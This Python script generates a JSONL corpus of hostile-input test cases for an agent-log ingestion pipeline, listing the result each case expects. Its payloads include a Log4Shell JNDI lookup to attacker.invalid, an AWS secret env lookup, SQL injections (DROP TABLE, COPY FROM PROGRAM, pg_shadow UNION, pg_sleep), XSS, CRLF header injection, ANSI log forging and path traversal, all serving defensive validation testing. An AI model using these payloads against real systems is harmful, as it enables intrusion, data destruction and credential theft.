#!/usr/bin/env python3
# Regenerates corpus.jsonl next to this file: python3 generate.py. Each case names the outcome it must have;
# HostileInputIT sends every case through the agent-logs job on the local cluster and checks it.
import json, base64
cases = []
NOW = "@NOW@"
class Raw:
    def __init__(self, s): self.s = s
def ev(extra_fields=None, message="hostile case", drop=(), **over):
    fields = {"event_id": "@ID@", "type": "agent_log", "timestamp": Raw(NOW), "service": "@SVC@",
              "correlation_id": "@ID@-r", "level": "info", "message": message}
    for k in drop: fields.pop(k, None)
    fields.update(over)
    if extra_fields: fields.update(extra_fields)
    return "{" + ",".join(json.dumps(k) + ":" + (v.s if isinstance(v, Raw) else json.dumps(v, ensure_ascii=True)) for k, v in fields.items()) + "}"
def split(message_placeholder_event):
    a, b = message_placeholder_event.split('"XX"')
    return a + '"', '"' + b
def add(category, name, expect, text=None, b64=None, parts=None, checks=None):
    c = {"category": category, "name": name, "expect": expect}
    if checks: c["checks"] = checks
    if text is not None: c["text"] = text
    if b64 is not None: c["base64"] = base64.b64encode(b64).decode()
    if parts is not None: c["parts"] = parts
    cases.append(c)
STORED = "stored"
def stored_msg(category, name, message, **kw):
    add(category, name, STORED, text=ev(message=message, **kw), checks={"message": message})

# ---- invalid UTF-8 ---------------------------------------------------------------------------
head, tail = split(ev(message="XX"))
for name, bad in [("overlong-slash", b"\xc0\xaf"), ("utf8-encoded-surrogate", b"\xed\xa0\x80"), ("five-byte-sequence", b"\xf8\x88\x80\x80\x80"),
                  ("truncated-three-byte", b"\xe2\x82"), ("lone-continuation-byte", b"\x80"), ("fe-ff-bytes", b"\xfe\xff"),
                  ("latin1-e-acute", b"caf\xe9"), ("code-point-above-10ffff", b"\xf4\x90\x80\x80"), ("overlong-nul", b"\xc0\x80"),
                  ("cp1252-smart-quotes", b"\x93quoted\x94")]:
    add("invalid-utf8", name, "INVALID_UTF8", b64=head.encode() + bad + tail.encode())
add("invalid-utf8", "bad-byte-in-key", "INVALID_UTF8", b64=b'{"ev\xffent_id":"x",' + ev()[1:].encode())
# UTF-16 and UTF-32 hold raw NUL bytes, which JSON text never does: refused before any decoder guesses the encoding
add("invalid-utf8", "utf16le-encoded-event", "INVALID_UTF8", b64=ev().encode("utf-16-le"))
for name, esc in [("escaped-lone-high-surrogate", "a\\ud800b"), ("escaped-lone-low-surrogate", "a\\udc00b"), ("escaped-reversed-surrogate-pair", "\\udc00\\ud800"),
                  ("escaped-high-surrogate-at-end", "end\\ud83d")]:
    add("invalid-utf8", name, "INVALID_UTF8", text=ev(message="XX").replace('"XX"', '"' + esc + '"'))
add("invalid-utf8", "escaped-lone-surrogate-in-attribute", "INVALID_UTF8", text=ev(attributes=Raw('{"k":"\\udfff"}')))
add("invalid-utf8", "escaped-lone-surrogate-in-attribute-key", "INVALID_UTF8", text=ev(attributes=Raw('{"\\ud800":"v"}')))
add("invalid-utf8", "utf8-bom-before-object", STORED, b64=b"\xef\xbb\xbf" + ev().encode(), checks={"message": "hostile case"})
add("invalid-utf8", "escaped-valid-surrogate-pair-emoji", STORED, text=ev(message="XX").replace('"XX"', '"ok \\ud83d\\ude00"'), checks={"message": "ok \U0001F600"})
stored_msg("invalid-utf8", "raw-four-byte-emoji", "ok \U0001F525 fire")
stored_msg("invalid-utf8", "combining-characters-zalgo", "z\u0351\u0352\u0353a\u0354l\u0355g\u0356o")

# ---- deep nesting ----------------------------------------------------------------------------
for d in (17, 64, 1000):
    add("deep-nesting", f"attributes-depth-{d}", "TOO_DEEP", text=ev(attributes=Raw('{"a":' * d + '1' + '}' * d)))
add("deep-nesting", "arrays-depth-100000-in-attributes", "WRONG_TYPE",
    parts=[{"text": '{"event_id":"x","attributes":'}, {"repeat": "[", "times": 100000}, {"repeat": "]", "times": 100000}, {"text": "}"}])
add("deep-nesting", "arrays-depth-100000-in-unknown-field", "TOO_DEEP",
    parts=[{"text": '{"event_id":"x","extra":'}, {"repeat": "[", "times": 100000}, {"repeat": "]", "times": 100000}, {"text": "}"}])
add("deep-nesting", "objects-depth-100000-unclosed", "TOO_DEEP", parts=[{"repeat": '{"a":', "times": 100000}])
add("deep-nesting", "message-as-nested-object", "WRONG_TYPE", text=ev(message=Raw('{"a":{"b":{"c":1}}}')))
add("deep-nesting", "attributes-depth-3-flattened", STORED, text=ev(attributes=Raw('{"http":{"request":{"method":"GET"}}}')),
    checks={"attributes/http.request.method": "GET"})
add("deep-nesting", "attributes-array-of-arrays", STORED, text=ev(attributes=Raw('{"k":[[1,2],[3,[4]]]}')), checks={"attributes/k.1.1.0": 4})

# ---- size ------------------------------------------------------------------------------------
head, tail = split(ev(message="XX"))
add("size", "message-10-mib", "OVERSIZE", parts=[{"text": head}, {"repeat": "A", "times": 10 * 1024 * 1024}, {"text": tail}])
add("size", "whitespace-10-mib", "OVERSIZE", parts=[{"repeat": " ", "times": 10 * 1024 * 1024}, {"text": ev()}])
add("size", "just-over-1-mib", "OVERSIZE", parts=[{"text": head}, {"repeat": "B", "times": 1024 * 1024}, {"text": tail}])
add("size", "message-100-kib-stored", STORED, parts=[{"text": head}, {"repeat": "C", "times": 100 * 1024}, {"text": tail}], checks={"message": "C" * (100 * 1024)})
ah, at = ev(attributes=Raw('{"big":"YY"}')).split("YY")
add("size", "attribute-value-64-kib", STORED, parts=[{"text": ah}, {"repeat": "D", "times": 64 * 1024}, {"text": at}], checks={"attributes/big": "D" * (64 * 1024)})
add("size", "129-attributes", "TOO_MANY_ATTRIBUTES", text=ev(attributes=Raw("{" + ",".join(f'"k{i}":"v"' for i in range(129)) + "}")))
kh, kt = ev(attributes=Raw('{"ZZ":"v"}')).split("ZZ")
add("size", "long-attribute-key-10k", STORED, parts=[{"text": kh}, {"repeat": "k", "times": 10000}, {"text": kt}], checks={"attributes/" + "k" * 10000: "v"})
add("size", "service-300-chars", "INVALID_VALUE", text=ev(service="s" * 300))
for field in ("logger", "tool", "model", "outcome"):
    fh, ft = ev(**{field: "ZZ"}).split("ZZ")
    add("size", f"{field}-40-kib", "INVALID_VALUE", parts=[{"text": fh}, {"repeat": "L", "times": 40 * 1024}, {"text": ft}])
add("size", "logger-256-chars-stored", STORED, text=ev(logger="l" * 256), checks={"logger": "l" * 256})

# ---- numbers ---------------------------------------------------------------------------------
for name, field, raw, expect in [
        ("timestamp-1e400", "timestamp", "1e400", "WRONG_TYPE"), ("timestamp-1e20", "timestamp", "1e20", "WRONG_TYPE"),
        ("timestamp-negative", "timestamp", "-1", "TIMESTAMP_OUT_OF_RANGE"), ("timestamp-fraction", "timestamp", "1.5", "WRONG_TYPE"),
        ("tokens-1e30", "tokens_in", "1e30", "WRONG_TYPE"), ("tokens-2pow64", "tokens_in", "18446744073709551616", "INVALID_VALUE"),
        ("tokens-negative", "tokens_in", "-5", "INVALID_VALUE"), ("tokens-fraction", "tokens_in", "2.5", "WRONG_TYPE"),
        ("cost-1e309", "cost", "1e309", "INVALID_VALUE"), ("cost-negative", "cost", "-0.01", "INVALID_VALUE"),
        ("duration-nan-literal", "duration_ms", "NaN", "MALFORMED_JSON"), ("duration-infinity-literal", "duration_ms", "Infinity", "MALFORMED_JSON"),
        ("duration-minus-infinity", "duration_ms", "-Infinity", "MALFORMED_JSON"), ("cost-nan-string", "cost", '"NaN"', "WRONG_TYPE"),
        ("hex-literal", "tokens_in", "0x10", "MALFORMED_JSON"), ("leading-zeros", "tokens_in", "007", "MALFORMED_JSON"),
        ("plus-sign", "tokens_in", "+5", "MALFORMED_JSON"), ("step-1e400", "step", "1e400", "WRONG_TYPE"),
        ("number-with-100-digits", "tokens_in", "1" * 100, "OVERSIZE")]:
    add("numbers", name, expect, text=ev(**{field: Raw(raw)}))
add("numbers", "duration-huge-but-finite", STORED, text=ev(duration_ms=Raw("1e300")), checks={"duration_ms": 1e300})
add("numbers", "cost-denormal", STORED, text=ev(cost=Raw("4.9e-324")), checks={"cost": 4.9e-324})
add("numbers", "tokens-long-max", STORED, text=ev(tokens_in=Raw("9223372036854775807")), checks={"tokens_in": 9223372036854775807})

# ---- duplicate keys --------------------------------------------------------------------------
for name, key, a, b in [("duplicate-service", "service", '"hostile-svc"', '"payments"'), ("duplicate-timestamp", "timestamp", NOW, "0"),
                        ("duplicate-type", "type", '"agent_log"', '"error"'), ("duplicate-message", "message", '"one"', '"two"'),
                        ("duplicate-event-id", "event_id", '"@ID@"', '"other"'), ("duplicate-level", "level", '"info"', '"error"'),
                        ("duplicate-same-value", "service", '"hostile-svc"', '"hostile-svc"')]:
    base = ev(drop=(key,))
    add("duplicate-keys", name, "DUPLICATE_FIELD", text=base[:-1] + f',"{key}":{a},"{key}":{b}' + "}")
add("duplicate-keys", "duplicate-attribute-key", "DUPLICATE_FIELD", text=ev(attributes=Raw('{"user":"a","user":"b"}')))
add("duplicate-keys", "attributes-flatten-to-same-key", "DUPLICATE_FIELD", text=ev(attributes=Raw('{"a":{"b":1},"a.b":2}')))
add("duplicate-keys", "unknown-field-and-attribute-collide", "DUPLICATE_FIELD", text=ev(extra_fields={"color": "red"}, attributes=Raw('{"color":"blue"}')))

# ---- wrong types -----------------------------------------------------------------------------
for name, field, raw in [("message-number", "message", "42"), ("message-object", "message", '{"x":1}'), ("message-array", "message", '["a"]'),
                         ("message-null", "message", "null"), ("message-true", "message", "true"), ("level-number", "level", "3"), ("service-array", "service", '["a"]'),
                         ("service-null", "service", "null"), ("attributes-string", "attributes", '"a=b"'), ("correlation-number", "correlation_id", "12"),
                         ("event-id-object", "event_id", '{"id":1}'), ("type-null", "type", "null"), ("type-number", "type", "1"), ("timestamp-object", "timestamp", '{"s":1}'),
                         ("timestamp-array", "timestamp", "[1]"), ("tokens-string", "tokens_in", '"12"'), ("step-boolean", "step", "true"), ("tool-array", "tool", '["x"]'),
                         ("agent-id-number", "agent_id", "7"), ("schema-version-string", "schema_version", '"1"')]:
    add("wrong-types", name, "WRONG_TYPE", text=ev(**{field: Raw(raw)}))

# ---- control characters: escaped ones are legal JSON and stored exactly; raw ones are not JSON ----
for name, s in [("escaped-nul", "a\u0000b"), ("escaped-bell", "ding\u0007"), ("escaped-backspace", "back\bspace"), ("escaped-form-feed", "form\ffeed"),
                ("escaped-del", "del\u007f"), ("next-line-u0085", "a\u0085b"), ("line-separator-u2028", "a\u2028b"), ("paragraph-separator-u2029", "a\u2029b"),
                ("zero-width-space", "zero\u200bwidth"), ("right-to-left-override", "abc\u202edcba"), ("escaped-tab-and-vertical-tab", "a\tb\u000bc"),
                ("byte-order-mark-in-text", "\ufeffbom"), ("all-c0-controls", "".join(chr(c) for c in range(32)))]:
    # free text keeps every control character but NUL, which no PostgreSQL text can hold: it is stored as U+FFFD
    add("control-characters", name, STORED, text=ev(message=s), checks={"message": s.replace("\u0000", "\ufffd")})
for name, raw in [("raw-tab-in-string", "a\tb"), ("raw-newline-in-string", "a\nb"), ("raw-carriage-return-in-string", "a\rb")]:
    add("control-characters", name, "MALFORMED_JSON", text=ev(message="XX").replace('"XX"', '"' + raw + '"'))
add("control-characters", "raw-nul-in-string", "INVALID_UTF8", b64=ev(message="XX").replace('"XX"', '"a\x00b"').encode())
add("control-characters", "nul-in-service", "INVALID_VALUE", text=ev(service="hostile\u0000svc"))
add("control-characters", "nul-in-event-id", "INVALID_VALUE", text=ev(event_id="id\u0000x"))
# labels and keys (keywords, SQL key columns, parts of composite keys) take no C0 control but tab and newline
for field, s in [("logger", "log\u0000ger"), ("model", "gpt\u0001mini"), ("tool", "search\u001f"), ("outcome", "ok\r")]:
    add("control-characters", "control-in-" + field, "INVALID_VALUE", text=ev(**{field: s}))
add("control-characters", "nul-in-attribute-key", "INVALID_VALUE", text=ev(attributes=Raw('{"k\\u0000":"v"}')))
add("control-characters", "tab-and-newline-in-logger", STORED, text=ev(logger="a\tb\nc"), checks={"logger": "a\tb\nc"})

# ---- log injection: stored exactly as text, never interpreted ---------------------------------
for name, s in [("newline-fake-log-line", "ok\n2026-11-28 12:00:00 ERROR root - fake entry"), ("crlf-header-injection", "ok\r\nX-Forwarded-Host: evil.example"),
                ("ansi-red", "\u001b[31mred alert\u001b[0m"), ("ansi-title-osc", "\u001b]0;pwned\u0007"), ("ansi-clear-screen", "\u001b[2J\u001b[H"),
                ("ansi-cursor-up-overwrite", "benign\u001b[1A\u001b[2Kforged"), ("fake-json-close", '"} {"level":"error","message":"forged"'),
                ("log4shell-jndi", "${jndi:ldap://attacker.invalid/a}"), ("env-lookup", "${env:AWS_SECRET_ACCESS_KEY}"), ("printf-format", "%n%s%s%x%p"),
                ("html-script", "<script>alert(1)</script>"), ("markdown-link", "[click](javascript:alert(1))"), ("log4j-nested-lookup", "${${lower:j}ndi:dns://x}")]:
    stored_msg("log-injection", name, s)
# a cookie is a credential: the injected header is kept, its value masked
add("log-injection", "crlf-set-cookie", STORED, text=ev(message="ok\r\nSet-Cookie: session=stolen"),
    checks={"message": "ok\r\nSet-Cookie: [REDACTED:secret]"})
add("log-injection", "newline-in-logger", STORED, text=ev(logger="app\nERROR forged"), checks={"logger": "app\nERROR forged"})
add("log-injection", "ansi-in-attribute", STORED, text=ev(attributes=Raw(json.dumps({"user_agent": "\u001b[31mcurl\u001b[0m"}))),
    checks={"attributes/user_agent": "\u001b[31mcurl\u001b[0m"})
add("log-injection", "newline-in-correlation-id", "INVALID_VALUE", text=ev(correlation_id="r1\nforged"))

# ---- SQL-looking strings in fields that reach TimescaleDB and Elasticsearch ---------------------
for name, s in [("sql-drop-in-message", "'; DROP TABLE agent_log_counts; --"), ("sql-or-true-in-message", "' OR '1'='1"),
                ("sql-backslash-quote", "\\'; SELECT 1; --"), ("sql-copy-program", "COPY x FROM PROGRAM 'id'"), ("sql-e-string", "E'\\x00' || chr(0)")]:
    stored_msg("sql-injection", name, s)
add("sql-injection", "sql-in-agent-id-with-spaces", "INVALID_VALUE", text=ev(agent_id="x'); DELETE FROM agent_usage; --"))
add("sql-injection", "sql-in-session-id-with-spaces", "INVALID_VALUE", text=ev(session_id="s' UNION SELECT password FROM pg_shadow --"))
for name, agent in [("sql-comment-in-agent-id", "a/**/OR/**/1=1"), ("sql-quote-in-agent-id", "x');DELETE/**/FROM/**/agent_log_counts;--"),
                    ("sql-dollar-quote-in-agent-id", "$$;SELECT/**/pg_sleep(10);$$")]:
    add("sql-injection", name, STORED, text=ev(agent_id=agent), checks={"agent_id": agent, "pg:agent_id": agent})
for name, field, s in [("sql-in-model", "model", "gpt' OR '1'='1"), ("sql-dollar-quote-in-tool", "tool", "$$; SELECT pg_sleep(10); $$"),
                       ("sql-semicolon-in-logger", "logger", "Robert'); DROP TABLE students;--"), ("sql-in-outcome", "outcome", "ok'; UPDATE agent_usage SET cost=0; --")]:
    add("sql-injection", name, STORED, text=ev(**{field: s}), checks={field: s})
add("sql-injection", "sql-in-attribute", STORED, text=ev(attributes=Raw(json.dumps({"q": "1; TRUNCATE journey_hops; --"}))),
    checks={"attributes/q": "1; TRUNCATE journey_hops; --"})

# ---- Elasticsearch-query-looking strings ---------------------------------------------------------
for name, s in [("lucene-match-all", "*:*"), ("lucene-boolean", "service:payments AND level:error"), ("lucene-id-or", "_id:1 OR 1=1"),
                ("query-dsl-json", '{"query":{"match_all":{}}}'), ("painless-script", "ctx._source.remove('message')"), ("mustache", "{{#toJson}}_source{{/toJson}}"),
                ("regex-bomb", "(a+)+$" + "a" * 40 + "!"), ("wildcard-leading", "*secret*"), ("logstash-field-ref", "%{[@metadata][pipeline]}"),
                ("bulk-action-line", '{"delete":{"_index":"vigil-logs","_id":"1"}}'), ("bulk-newline-action", 'x"}\n{"index":{"_id":"forged"}}\n{"message":"forged')]:
    stored_msg("es-injection", name, s)
add("es-injection", "underscore-id-attribute", STORED, text=ev(attributes=Raw(json.dumps({"_id": "forged", "_index": "other", "_source": "x"}))),
    checks={"attributes/_id": "forged", "attributes/_index": "other"})
add("es-injection", "top-level-id-field", STORED, text=ev(extra_fields={"_id": "forged"}), checks={"attributes/_id": "forged"})
add("es-injection", "top-level-at-timestamp", STORED, text=ev(extra_fields={"@timestamp": "1970-01-01T00:00:00Z"}), checks={"attributes/@timestamp": "1970-01-01T00:00:00Z"})
add("es-injection", "index-pattern-in-service", "INVALID_VALUE", text=ev(service="vigil-logs*"))

# ---- spoofed service / tenant fields -------------------------------------------------------------
for name, svc in [("service-trailing-space", "payments "), ("service-cyrillic-homoglyph", "p\u0430yments"), ("service-path-traversal", "../payments"),
                  ("service-semicolon", "payments;admin"), ("service-empty", ""), ("service-newline", "payments\nadmin"), ("service-url", "http://payments"),
                  ("service-wildcard", "*"), ("service-fullwidth-letters", "\uff50ayments")]:
    add("spoofing", name, "INVALID_VALUE", text=ev(service=svc))
add("spoofing", "service-other-team-uppercase", STORED, text=ev(service="Payments"), checks={"service": "Payments"})
add("spoofing", "tenant-attribute-wildcard", STORED, text=ev(attributes=Raw(json.dumps({"tenant": "*"}))), checks={"attributes/tenant": "*"})
add("spoofing", "tenant-attribute-traversal", STORED, text=ev(attributes=Raw(json.dumps({"tenant": "other-tenant", "tenant.id": "../../root"}))),
    checks={"attributes/tenant": "other-tenant", "attributes/tenant.id": "../../root"})
add("spoofing", "environment-with-newline", "INVALID_VALUE", text=ev(environment="prod\nstaging"))
add("spoofing", "host-header-injection", "INVALID_VALUE", text=ev(host="localhost\r\nX-Forwarded-For: 10.0.0.1"))
add("spoofing", "correlation-id-traversal", STORED, text=ev(correlation_id="../../admin"), checks={"correlation_id": "../../admin"})
add("spoofing", "schema-version-from-the-future", "UNSUPPORTED_SCHEMA_VERSION", text=ev(schema_version=Raw("99")))
add("spoofing", "type-claims-error", "MISSING_FIELD", text=ev(type="error"))

# ---- timestamps -------------------------------------------------------------------------------
for name, ts, expect in [("epoch-zero", Raw("0"), "TIMESTAMP_OUT_OF_RANGE"), ("iso-1970", "1970-01-01T00:00:00Z", "TIMESTAMP_OUT_OF_RANGE"),
                         ("iso-9999", "9999-12-31T23:59:59Z", "TIMESTAMP_OUT_OF_RANGE"), ("iso-10000", "+10000-01-01T00:00:00Z", "TIMESTAMP_UNPARSEABLE"),
                         ("year-zero", "0000-01-01T00:00:00Z", "TIMESTAMP_OUT_OF_RANGE"), ("year-2100", "2100-01-01T00:00:00Z", "TIMESTAMP_OUT_OF_RANGE"),
                         ("leap-second", "2026-06-30T23:59:60Z", "TIMESTAMP_UNPARSEABLE"), ("february-30", "2026-02-30T00:00:00Z", "TIMESTAMP_UNPARSEABLE"),
                         ("offset-plus-25h", "2026-11-28T00:00:00+25:00", "TIMESTAMP_UNPARSEABLE"), ("epoch-micros", Raw("1795890000000000"), "TIMESTAMP_OUT_OF_RANGE"),
                         ("long-max", Raw("9223372036854775807"), "TIMESTAMP_OUT_OF_RANGE"), ("long-min", Raw("-9223372036854775808"), "TIMESTAMP_OUT_OF_RANGE"),
                         ("empty-string", "", "TIMESTAMP_UNPARSEABLE"), ("sql-in-timestamp", "2026-11-28'; DROP TABLE x;--", "TIMESTAMP_UNPARSEABLE"),
                         ("no-zone", "2026-11-28T12:00:00", "TIMESTAMP_UNPARSEABLE"), ("year-2001-older-than-window", "2001-01-01T00:00:00Z", "TIMESTAMP_OUT_OF_RANGE")]:
    add("timestamps", name, expect, text=ev(timestamp=ts))

# ---- structure --------------------------------------------------------------------------------
for name, t, expect in [("empty", "", "MALFORMED_JSON"), ("whitespace-only", "   \n\t ", "NOT_AN_OBJECT"), ("json-null", "null", "NOT_AN_OBJECT"),
                        ("json-true", "true", "NOT_AN_OBJECT"), ("json-string", '"event"', "NOT_AN_OBJECT"), ("json-array", "[]", "NOT_AN_OBJECT"),
                        ("empty-object", "{}", "MISSING_FIELD"), ("two-objects", ev() + ev(), "MALFORMED_JSON"), ("trailing-comma", ev()[:-1] + ",}", "MALFORMED_JSON"),
                        ("line-comment", "// c\n" + ev(), "MALFORMED_JSON"), ("single-quotes", ev().replace('"', "'"), "MALFORMED_JSON"),
                        ("unquoted-keys", '{event_id:"x"}', "MALFORMED_JSON"), ("truncated-object", ev()[:40], "MALFORMED_JSON"), ("number-only", "12345", "NOT_AN_OBJECT"),
                        ("xml-instead-of-json", "<event><service>x</service></event>", "MALFORMED_JSON"), ("unknown-type", ev(type="agent_logs"), "UNKNOWN_TYPE")]:
    add("structure", name, expect, text=t)

import os
with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "corpus.jsonl"), "w") as f:
    for c in cases:
        f.write(json.dumps(c, ensure_ascii=True) + "\n")
from collections import Counter
print(len(cases), Counter(c["expect"] for c in cases))
